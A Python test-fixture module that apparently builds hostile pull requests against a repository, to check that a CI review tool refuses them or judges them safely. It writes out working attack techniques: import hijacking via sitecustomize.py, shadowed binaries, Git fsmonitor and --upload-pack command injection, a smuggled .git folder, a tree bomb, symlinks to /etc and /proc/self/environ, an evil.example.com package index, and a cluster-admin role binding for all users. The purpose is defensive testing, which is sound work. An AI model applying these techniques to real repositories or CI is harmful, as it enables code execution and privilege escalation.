"""Requests that strangers make of a repository that `init` made, by what is odd about them.

Each takes a work tree of main, and the path of a file that is there afterwards if anything of the request was run.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from tests.cli.repository import commit, git
from tests.project import Project

Change = Callable[[Project, Path], str | None]


def edited(work: Project, more: str = "  gfd: {enabled: false}\n") -> None:
    """MORE at the end of the policy, rendered."""
    policy = work.folder / "policies" / "example.yaml"
    policy.write_text(policy.read_text(encoding="utf-8") + more, encoding="utf-8")
    assert work.run("render").code == 0


def routine(work: Project, pwned: Path) -> None:
    """Requests for the device plugin, rendered."""
    edited(work, "  devicePlugin: {resources: {requests: {cpu: 10m}}}\n")


def stale(work: Project, pwned: Path) -> None:
    """A policy without a driver, and without its render."""
    edited(work, "  driver: {enabled: false}\n")
    git(work.folder, "checkout", "-q", "--", "dist")


def scripts(work: Project, pwned: Path) -> None:
    """CI's scripts, the Makefile and the workflows, all replaced."""
    for path in (work.folder / "ci").iterdir():
        shell = f"touch {pwned}\n"
        path.write_text(f"import os; os.system('{shell}')" if path.suffix == ".py" else f"#!/bin/sh\n{shell}", "utf-8")
    work.write("Makefile", f"x := $(shell touch {pwned})\n")
    for path in (work.folder / ".github" / "workflows").iterdir():
        path.unlink()


def imports(work: Project, pwned: Path) -> None:
    """Modules that Python would find before those that are meant."""
    for name in (
        "sitecustomize.py",
        "usercustomize.py",
        "gpustack/__init__.py",
        "gpustack/__main__.py",
        "json.py",
        "yaml.py",
    ):
        for folder in ("", "ci/", "policies/", "dist/"):
            if (folder, name.partition("/")[0]) == ("ci/", "gpustack"):
                continue  # the script of that name
            work.write(f"{folder}{name}", f"import os; os.system('touch {pwned}')\n")
    work.write("conftest.py", f"import os; os.system('touch {pwned}')\n")
    work.write("pyvenv.cfg", "home = .\n")


def programs(work: Project, pwned: Path) -> None:
    """Programs and settings of tools, where tools look for them."""
    for name in (".venv/bin/python", ".tools/bin/kubeconform", "node_modules/.bin/node", "git", "timeout", "env"):
        work.write(name, f"#!/bin/sh\ntouch {pwned}\n").chmod(0o755)
    for name in (".npmrc", ".netrc", "pip.conf", ".pip/pip.conf", "package.json", ".env", ".gitconfig"):
        work.write(name, "node-options=--require ./evil.js\n")


def bare(work: Project, pwned: Path) -> None:
    """Folders that Git takes for repositories, with a configuration that runs something."""
    for folder in ("dist/example", "policies", "."):
        work.write(f"{folder}/HEAD", "ref: refs/heads/main\n")
        work.write(f"{folder}/objects/keep", "")
        work.write(f"{folder}/refs/keep", "")
        work.write(f"{folder}/config", f'[core]\n\tfsmonitor = "touch {pwned}; false"\n\tbare = true\n')


def attributes(work: Project, pwned: Path) -> None:
    """Attributes that make something else of files as they are laid out."""
    text = "* text eol=crlf ident filter=x diff=x merge=x working-tree-encoding=UTF-16\n"
    for folder in ("", "policies/", "dist/example/"):
        work.write(f"{folder}.gitattributes", text)


def links(work: Project, pwned: Path) -> None:
    """Links to what is outside."""
    (work.folder / "comment.md").symlink_to("/dev/zero")
    (work.folder / "report").symlink_to("/etc")
    (work.folder / "policies" / "environment.yaml").symlink_to("/proc/self/environ")


def submodule(work: Project, pwned: Path) -> str:
    """A submodule, and a .gitmodules that runs something where Git is old."""
    work.write(
        ".gitmodules",
        f'[submodule "x"]\n\tpath = dist/x\n\turl = --upload-pack=touch {pwned}\n\tupdate = !touch {pwned}\n',
    )
    commit(work.folder)
    head = git(work.folder, "rev-parse", "HEAD")
    git(work.folder, "update-index", "--add", "--cacheinfo", f"160000,{head},dist/x")
    git(work.folder, "commit", "-q", "-m", "module")
    return git(work.folder, "rev-parse", "HEAD")


def tree_of(work: Project, tree: str) -> str:
    """A commit with TREE on top of main."""
    return git(work.folder, "commit-tree", tree, "-p", "HEAD", "-m", "odd")


def dot_git(work: Project, pwned: Path) -> str:
    """A folder .git in the tree, as only plumbing makes it."""
    blob = git(work.folder, "hash-object", "-w", "--stdin", given=f'[core]\n\tfsmonitor = "touch {pwned}; false"\n')
    inner = git(work.folder, "mktree", given=f"100644 blob {blob}\tconfig\n")
    there = git(work.folder, "ls-tree", "HEAD")
    return tree_of(work, git(work.folder, "mktree", given=f"{there}\n040000 tree {inner}\t.git\n"))


def bomb(work: Project, pwned: Path) -> str:
    """A thousand million files in ten objects."""
    kind, name = "100644 blob", git(work.folder, "hash-object", "-w", "--stdin", given="x" * 1000)
    for _ in range(9):
        name = git(work.folder, "mktree", given="".join(f"{kind} {name}\t{each}\n" for each in range(10)))
        kind = "040000 tree"
    there = git(work.folder, "ls-tree", "HEAD")
    return tree_of(work, git(work.folder, "mktree", given=f"{there}\n040000 tree {name}\tbomb\n"))


def large(work: Project, pwned: Path) -> None:
    """One file of zeros that is larger than all that a request may hold."""
    with (work.folder / "zeros").open("wb") as file:
        file.truncate(LARGEST + 1)


def conflict(work: Project, pwned: Path) -> str:
    """What main has otherwise by now."""
    git(work.folder, "checkout", "-q", "HEAD~1")
    work.write("notes.txt", "theirs\n")
    return commit(work.folder)


def strangers(work: Project, pwned: Path) -> str:
    """A history that has nothing to do with main."""
    git(work.folder, "checkout", "-q", "--orphan", "alone")
    return commit(work.folder)


LARGEST = 8 << 20
"""Bytes that a request may hold in these tests."""
LINES = {
    "index": "--index-url https://evil.example.com/simple\n",
    "extra": "--extra-index-url https://evil.example.com/simple\n",
    "links": "--find-links ./wheels\n",
    "editable": "-e .\n",
    "constraint": "-c ci/constraints.txt\n",
    "file": "-r ci/more.txt\n",
    "marker": 'evil==1 ; python_version > "3" --hash=sha256:00\n',
    "source": "--no-binary :all:\n./evil\n",
    "trusted": "--trusted-host evil.example.com\n",
}


def pinned(line: str) -> Change:
    """A change of requirements.txt by LINE, with a package that leaves a file behind, and a render of its own."""

    def change(work: Project, pwned: Path) -> None:
        path = work.folder / "requirements.txt"
        path.write_text(path.read_text(encoding="utf-8") + line, encoding="utf-8")
        for name in ("setup.py", "evil/setup.py"):
            work.write(name, f"import os; os.system('touch {pwned}')\n")
        role = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: all}\n"
        role += "roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n"
        role += "subjects:\n- {apiGroup: rbac.authorization.k8s.io, kind: Group, name: 'system:authenticated'}\n"
        work.write("dist/example/base/clusterrolebinding-all.yaml", role)

    return change


def files(work: Project, pwned: Path) -> None:
    """Every file that some tool might obey."""
    for each in (imports, programs, scripts, attributes, bare):
        each(work, pwned)


JUDGED: dict[str, Change] = {
    "routine": routine,
    "stale": stale,
    "files": files,
    "pins": pinned("-e .\n"),
}
"""Requests that are reviewed."""
REFUSED: dict[str, Change] = {
    each.__name__: each for each in (links, submodule, dot_git, bomb, large, conflict, strangers)
}
"""Requests that can't be."""
